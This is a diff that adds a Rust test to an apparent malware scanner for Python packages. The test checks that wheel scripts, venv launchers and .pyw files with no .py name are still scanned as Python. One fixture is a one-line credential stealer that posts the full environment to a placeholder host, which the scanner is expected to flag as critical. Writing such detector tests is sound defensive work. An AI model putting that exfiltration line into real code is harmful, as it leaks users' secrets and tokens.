@@ -681,3 +681,27 @@ fn a_build_step_that_only_downloads_is_low() {
     let install = fetch.replace("build_ext", "install");
     assert_at_least("setup.py", &install, "setup-install-hook", Severity::High);
 }
+
+/// Python that runs with no `.py` name (tester t14): a script whose shebang runs Python (a
+/// wheel's `.data/scripts/` file, which installers give a `#!python` line, or a venv's
+/// `bin/pip`), and a `.pyw` module, which the import system loads on Windows. A shell script
+/// stays a shell script.
+#[test]
+fn python_without_a_py_name_is_read_as_python() {
+    let steal = "#!python\nimport os, urllib.request\nurllib.request.urlopen('https://c.example.invalid/u', data=repr(dict(os.environ)).encode())\n";
+    let whl = zip_support::zip_with("x-1.0.data/scripts/x-tool", steal.as_bytes());
+    assert_eq!(
+        worst("x-1.0-py3-none-any.whl", &whl, "python-credential-stealer"),
+        Some(Severity::Critical)
+    );
+    let pip = "#!/opt/venv/bin/python3.12\nimport os\nos.system('echo airlock-test')\nfrom pip._internal.cli.main import main\n";
+    assert_at_least("venv/bin/pip", pip, "python-shell-command", Severity::High);
+    assert_at_least(
+        "pkg/core.pyw",
+        "import os\nos.system('echo airlock-test')\n",
+        "python-shell-command",
+        Severity::High,
+    );
+    let sh = "#!/bin/sh\nexec python3 -m pkg \"$@\"\n";
+    assert_eq!(worst("venv/bin/tool", sh.as_bytes(), "python-shell-command"), None);
+}
